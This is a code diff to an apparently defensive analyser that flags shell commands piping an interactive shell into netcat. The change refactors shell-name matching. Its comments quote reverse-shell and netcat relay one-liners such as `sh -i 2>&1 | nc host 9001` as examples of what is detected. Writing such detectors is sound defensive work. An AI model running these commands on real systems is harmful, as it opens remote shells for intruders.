@@ -1,16 +1,18 @@
 import type { Command, StandardInput } from '../../shell/command.js';
 import type { Running } from '../command/running.js';
 import { pipedInto, textOf } from '../../shell/command.js';
+import { isCommonShell } from '../../shell/shell-names.js';
 import { programName } from '../command/names/program-name.js';
 import { isOwnMachine } from '../../paths/own-hosts.js';
 import { pathNamed } from '../target.js';
 
 /** `sh -i 2>&1 | nc host 9001`: what goes down the pipe is what a shell prints that is told what to do by somebody else. */
 export function isFedByShell(command: Command): boolean {
-  return pipedInto(command).some(
-    ({ words: [program, ...args], input }) =>
-      /^(?:ba|da|fi|k|z)?sh$/.test(programName(textOf(program))) && !isSaid(input) && args.every((arg) => WAITS.test(textOf(arg))),
-  );
+  return pipedInto(command).some(({ words: [first, ...args], input }) => {
+    const program = programName(textOf(first));
+    const isShell = isCommonShell(program) || program === 'fish';
+    return isShell && !isSaid(input) && args.every((arg) => WAITS.test(textOf(arg)));
+  });
 }
 
 /** What hands on by itself what it reads: `nc -l 80 < pipe | nc host 80 > pipe` leads from one machine to the other. */
